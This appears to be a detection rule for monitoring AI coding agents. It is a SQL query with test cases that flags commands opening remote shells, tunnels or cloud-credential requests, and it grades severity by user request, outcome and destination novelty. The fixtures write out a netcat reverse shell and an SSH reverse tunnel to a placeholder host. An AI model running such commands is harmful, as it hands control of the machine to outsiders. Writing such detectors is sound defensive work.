-- +++
-- title = "Shell, tunnel or cloud identity handed out"
-- severity = "critical"
-- confidence = "high"
-- status = "stable"
-- tier = "signal"
-- since = "0.1.0"
-- what = "A command hands a shell to a remote machine, opens a tunnel into this one, or asks the metadata service of a cloud for credentials."
-- impact = "Somebody outside may be able to act on this machine or with its cloud identity."
-- false_positives = [
--   "Work on tunnels and cloud images, security laboratories.",
-- ]
-- next_steps = [
--   "SELECT time, text, outcome FROM command_acts WHERE call_uid = '{key}'",
--   "Read the session around it.",
--   "SELECT time, tool, arguments, outcome FROM calls WHERE session_id = '{session_id}' ORDER BY time",
-- ]
-- references = []
-- tags = ["owasp-asi:2026:ASI05", "owasp-asi:2026:ASI02", "atlas:AML.T0072", "atlas:AML.T0105", "atlas:AML.T0098"]
-- [params]
-- may_be_asked = "tunnel"
-- said_by_everybody = "^ssh$"
-- name_chars = 80
-- quote_chars = 160
-- [[case]]
-- name = "a tunnel that the user asked for by name"
-- command_acts = [
--   { login = "ana", device = "n1", agent = "Claude Code", session_id = "s", conversation_id = "c", export_key = "e", call_uid = "c1", seq = 1, position = 2, time = 2026-03-01T09:01:00Z, integration = "Claude Code", tool = "Bash", outcome = "ok", record_id = 1, act = "remote", nth = 1, meaning = "opens a tunnel into this machine", program = "ngrok", text = "ngrok http 3000" },
-- ]
-- request_clauses = [
--   { conversation_id = "c", position = 1, clause = "start ngrok on port 3000", reads = false },
-- ]
-- expect = [
--   { severity = "medium" },
-- ]
-- [[case]]
-- name = "the user named the program only afterwards"
-- command_acts = [
--   { login = "ana", device = "n1", agent = "Claude Code", session_id = "s", conversation_id = "c", export_key = "e", call_uid = "c1", seq = 1, position = 2, time = 2026-03-01T09:01:00Z, integration = "Claude Code", tool = "Bash", outcome = "ok", record_id = 1, act = "remote", nth = 1, meaning = "opens a tunnel into this machine", program = "ngrok", text = "ngrok http 3000" },
-- ]
-- request_clauses = [
--   { conversation_id = "c", position = 3, clause = "start ngrok on port 3000", reads = false },
-- ]
-- expect = [
--   { severity = "critical" },
-- ]
-- [[case]]
-- name = "the user asked for something else"
-- command_acts = [
--   { login = "ana", device = "n1", agent = "Claude Code", session_id = "s", conversation_id = "c", export_key = "e", call_uid = "c1", seq = 1, position = 2, time = 2026-03-01T09:01:00Z, integration = "Claude Code", tool = "Bash", outcome = "ok", record_id = 1, act = "remote", nth = 1, meaning = "opens a tunnel into this machine", program = "ngrok", text = "ngrok http 3000" },
-- ]
-- request_clauses = [
--   { conversation_id = "c", position = 1, clause = "start the server on port 3000", reads = false },
-- ]
-- expect = [
--   { severity = "critical" },
-- ]
-- [[case]]
-- name = "the user only asked about the program"
-- command_acts = [
--   { login = "ana", device = "n1", agent = "Claude Code", session_id = "s", conversation_id = "c", export_key = "e", call_uid = "c1", seq = 1, position = 2, time = 2026-03-01T09:01:00Z, integration = "Claude Code", tool = "Bash", outcome = "ok", record_id = 1, act = "remote", nth = 1, meaning = "opens a tunnel into this machine", program = "ngrok", text = "ngrok http 3000" },
-- ]
-- request_clauses = [
--   { conversation_id = "c", position = 1, clause = "what is ngrok", reads = true },
-- ]
-- expect = [
--   { severity = "critical" },
-- ]
-- [[case]]
-- name = "a shell for somebody else, whoever asked for it"
-- command_acts = [
--   { login = "ana", device = "n1", agent = "Claude Code", session_id = "s", conversation_id = "c", export_key = "e", call_uid = "c1", seq = 1, position = 2, time = 2026-03-01T09:01:00Z, integration = "Claude Code", tool = "Bash", outcome = "ok", record_id = 1, act = "remote", nth = 1, meaning = "hands a shell to a remote machine", program = "nc", text = "nc -e /bin/sh x.example 1" },
-- ]
-- request_clauses = [
--   { conversation_id = "c", position = 1, clause = "use nc for it", reads = false },
-- ]
-- expect = [
--   { severity = "critical" },
-- ]
-- [[case]]
-- name = "everybody speaks of ssh"
-- command_acts = [
--   { login = "ana", device = "n1", agent = "Claude Code", session_id = "s", conversation_id = "c", export_key = "e", call_uid = "c1", seq = 1, position = 2, time = 2026-03-01T09:01:00Z, integration = "Claude Code", tool = "Bash", outcome = "ok", record_id = 1, act = "remote", nth = 1, meaning = "opens a tunnel into this machine", program = "ssh", text = "ssh -R 0:localhost:1 a@x.example" },
-- ]
-- request_clauses = [
--   { conversation_id = "c", position = 1, clause = "look at the host with ssh", reads = false },
-- ]
-- expect = [
--   { severity = "critical" },
-- ]
-- [[case]]
-- name = "executed"
-- command_acts = [
--   { login = "ana", device = "n1", agent = "Claude Code", session_id = "s", conversation_id = "c", export_key = "e", call_uid = "c1", seq = 1, position = 2, time = 2026-03-01T09:01:00Z, integration = "Claude Code", tool = "Bash", outcome = "ok", record_id = 1, act = "remote", nth = 1, meaning = "does it", program = "prog", text = "prog it" },
-- ]
-- expect = [
--   { subject = "prog", severity = "critical", evidence = ["e#1"], count = 1 },
-- ]
-- [[case]]
-- name = "proposed only"
-- command_acts = [
--   { login = "ana", device = "n1", agent = "Claude Code", session_id = "s", conversation_id = "c", export_key = "e", call_uid = "c1", seq = 1, position = 2, time = 2026-03-01T09:01:00Z, integration = "Claude Code", tool = "Bash", outcome = "attempted", record_id = 1, act = "remote", nth = 1, meaning = "does it", program = "prog", text = "prog it" },
-- ]
-- expect = [
--   { severity = "medium" },
-- ]
-- [[case]]
-- name = "refused by a person"
-- command_acts = [
--   { login = "ana", device = "n1", agent = "Claude Code", session_id = "s", conversation_id = "c", export_key = "e", call_uid = "c1", seq = 1, position = 2, time = 2026-03-01T09:01:00Z, integration = "Claude Code", tool = "Bash", outcome = "refused", record_id = 1, act = "remote", nth = 1, meaning = "does it", program = "prog", text = "prog it" },
-- ]
-- expect = [
--   { severity = "medium" },
-- ]
-- [[case]]
-- name = "failed, but it was tried"
-- command_acts = [
--   { login = "ana", device = "n1", agent = "Claude Code", session_id = "s", conversation_id = "c", export_key = "e", call_uid = "c1", seq = 1, position = 2, time = 2026-03-01T09:01:00Z, integration = "Claude Code", tool = "Bash", outcome = "error", record_id = 1, act = "remote", nth = 1, meaning = "does it", program = "prog", text = "prog it" },
-- ]
-- expect = [
--   { severity = "critical" },
-- ]
-- [[case]]
-- name = "two commands of one call are one finding"
-- command_acts = [
--   { login = "ana", device = "n1", agent = "Claude Code", session_id = "s", conversation_id = "c", export_key = "e", call_uid = "c1", seq = 1, position = 2, time = 2026-03-01T09:01:00Z, integration = "Claude Code", tool = "Bash", outcome = "ok", record_id = 1, act = "remote", nth = 1, meaning = "does it", program = "prog", text = "prog it" },
--   { login = "ana", device = "n1", agent = "Claude Code", session_id = "s", conversation_id = "c", export_key = "e", call_uid = "c1", seq = 1, position = 2, time = 2026-03-01T09:01:00Z, integration = "Claude Code", tool = "Bash", outcome = "ok", record_id = 1, act = "remote", nth = 2, meaning = "does it", program = "prog", text = "prog it" },
-- ]
-- expect = [
--   { count = 2 },
-- ]
-- [[case]]
-- name = "two calls are two findings"
-- command_acts = [
--   { login = "ana", device = "n1", agent = "Claude Code", session_id = "s", conversation_id = "c", export_key = "e", call_uid = "c1", seq = 1, position = 2, time = 2026-03-01T09:01:00Z, integration = "Claude Code", tool = "Bash", outcome = "ok", record_id = 1, act = "remote", nth = 1, meaning = "does it", program = "prog", text = "prog it" },
--   { login = "ana", device = "n1", agent = "Claude Code", session_id = "s", conversation_id = "c", export_key = "e", call_uid = "c2", seq = 2, position = 4, time = 2026-03-01T09:02:00Z, integration = "Claude Code", tool = "Bash", outcome = "ok", record_id = 2, act = "remote", nth = 1, meaning = "does it", program = "prog", text = "prog it" },
-- ]
-- expect = [
--   { count = 1 },
--   { count = 1 },
-- ]
-- [[case]]
-- name = "a command that is only fetch"
-- command_acts = [
--   { login = "ana", device = "n1", agent = "Claude Code", session_id = "s", conversation_id = "c", export_key = "e", call_uid = "c1", seq = 1, position = 2, time = 2026-03-01T09:01:00Z, integration = "Claude Code", tool = "Bash", outcome = "ok", record_id = 1, act = "fetch", nth = 1, meaning = "does it", program = "prog", text = "prog it" },
-- ]
-- expect = []
-- [[case]]
-- name = "a command that is only send"
-- command_acts = [
--   { login = "ana", device = "n1", agent = "Claude Code", session_id = "s", conversation_id = "c", export_key = "e", call_uid = "c1", seq = 1, position = 2, time = 2026-03-01T09:01:00Z, integration = "Claude Code", tool = "Bash", outcome = "ok", record_id = 1, act = "send", nth = 1, meaning = "does it", program = "prog", text = "prog it" },
-- ]
-- expect = []
-- [[case]]
-- name = "a command that is only encode"
-- command_acts = [
--   { login = "ana", device = "n1", agent = "Claude Code", session_id = "s", conversation_id = "c", export_key = "e", call_uid = "c1", seq = 1, position = 2, time = 2026-03-01T09:01:00Z, integration = "Claude Code", tool = "Bash", outcome = "ok", record_id = 1, act = "encode", nth = 1, meaning = "does it", program = "prog", text = "prog it" },
-- ]
-- expect = []
-- [[case]]
-- name = "a command that is only run"
-- command_acts = [
--   { login = "ana", device = "n1", agent = "Claude Code", session_id = "s", conversation_id = "c", export_key = "e", call_uid = "c1", seq = 1, position = 2, time = 2026-03-01T09:01:00Z, integration = "Claude Code", tool = "Bash", outcome = "ok", record_id = 1, act = "run", nth = 1, meaning = "does it", program = "prog", text = "prog it" },
-- ]
-- expect = []
-- [[case]]
-- name = "a command that is only install"
-- command_acts = [
--   { login = "ana", device = "n1", agent = "Claude Code", session_id = "s", conversation_id = "c", export_key = "e", call_uid = "c1", seq = 1, position = 2, time = 2026-03-01T09:01:00Z, integration = "Claude Code", tool = "Bash", outcome = "ok", record_id = 1, act = "install", nth = 1, meaning = "does it", program = "prog", text = "prog it" },
-- ]
-- expect = []
-- [[case]]
-- name = "a destination on the list of the organisation"
-- command_acts = [
--   { login = "ana", device = "n1", agent = "Claude Code", session_id = "s", conversation_id = "c", export_key = "e", call_uid = "c1", seq = 1, position = 2, time = 2026-03-01T09:01:00Z, integration = "Claude Code", tool = "Bash", outcome = "ok", record_id = 1, act = "remote", nth = 1, meaning = "does it", program = "prog", text = "prog it" },
-- ]
-- steps = [ { call_uid = "c1", destination = "x.example", novelty = "listed", novelty_says = "is on the organisation's list" } ]
-- expect = [
--   { subject = "prog", severity = "medium" },
-- ]
-- [[case]]
-- name = "a destination that several users have long used"
-- command_acts = [
--   { login = "ana", device = "n1", agent = "Claude Code", session_id = "s", conversation_id = "c", export_key = "e", call_uid = "c1", seq = 1, position = 2, time = 2026-03-01T09:01:00Z, integration = "Claude Code", tool = "Bash", outcome = "ok", record_id = 1, act = "remote", nth = 1, meaning = "does it", program = "prog", text = "prog it" },
-- ]
-- steps = [ { call_uid = "c1", destination = "x.example", novelty = "known", novelty_says = "has long been used by 5 users" } ]
-- expect = [
--   { subject = "prog", severity = "high" },
-- ]
-- [[case]]
-- name = "a destination that was never used before"
-- command_acts = [
--   { login = "ana", device = "n1", agent = "Claude Code", session_id = "s", conversation_id = "c", export_key = "e", call_uid = "c1", seq = 1, position = 2, time = 2026-03-01T09:01:00Z, integration = "Claude Code", tool = "Bash", outcome = "ok", record_id = 1, act = "remote", nth = 1, meaning = "does it", program = "prog", text = "prog it" },
-- ]
-- steps = [ { call_uid = "c1", destination = "x.example", novelty = "new", novelty_says = "was never used before" } ]
-- expect = [
--   { subject = "prog", severity = "critical" },
-- ]
-- +++
WITH acts AS (
  SELECT call_uid, session_id, conversation_id, position, login, device, agent, integration, tool, seq, time, outcome, export_key, record_id,
         string_agg(DISTINCT meaning, ', ' ORDER BY meaning) AS meaning, min(text) AS text, min(program) AS program, count(*) AS commands
  FROM command_acts
  WHERE act IN ('remote')
  GROUP BY call_uid, session_id, conversation_id, position, login, device, agent, integration, tool, seq, time, outcome, export_key, record_id
),
asked AS (
  -- A tunnel that the user asked for by the name of its program is the user's own doing; what it is for is asked elsewhere.
  SELECT DISTINCT a.call_uid
  FROM acts a
  JOIN request_clauses r ON r.conversation_id = a.conversation_id AND r.position < a.position
  WHERE NOT r.reads AND regexp_like(a.meaning, $may_be_asked) AND mentions(r.clause, a.program) AND NOT regexp_like(a.program, $said_by_everybody)
)
SELECT
  a.program AS subject,
  a.agent || ' of ' || a.login || ' ran what opens this machine' || ': ' || a.meaning || ' ("' || excerpt(a.text, $quote_chars) || '")'
    || CASE WHEN d.novelty <> 'seen' THEN '; ' || defang(left(d.destination, $name_chars)) || ' ' || d.novelty_says ELSE '' END
    || CASE WHEN q.call_uid IS NOT NULL THEN '; the user had asked for it' ELSE '' END
    || CASE a.outcome WHEN 'ok' THEN '; it was executed.' WHEN 'attempted' THEN '; no result was seen, so it was proposed, not executed.' WHEN 'refused' THEN '; it was refused.' ELSE '; it failed.' END AS reason,
  a.time AS first_seen,
  a.time AS last_seen,
  a.commands AS count,
  a.session_id,
  a.login,
  a.device,
  a.agent,
  a.tool,
  a.integration,
  a.call_uid AS key,
  CASE WHEN a.outcome IN ('attempted', 'refused') OR q.call_uid IS NOT NULL THEN 'medium' ELSE CASE d.novelty WHEN 'known' THEN 'high' WHEN 'listed' THEN 'medium' ELSE 'critical' END END AS severity,
  make_array(evidence(a.export_key, a.record_id)) AS evidence
FROM acts a
LEFT JOIN steps d ON d.call_uid = a.call_uid
LEFT JOIN asked q ON q.call_uid = a.call_uid
ORDER BY a.session_id, a.seq, a.call_uid
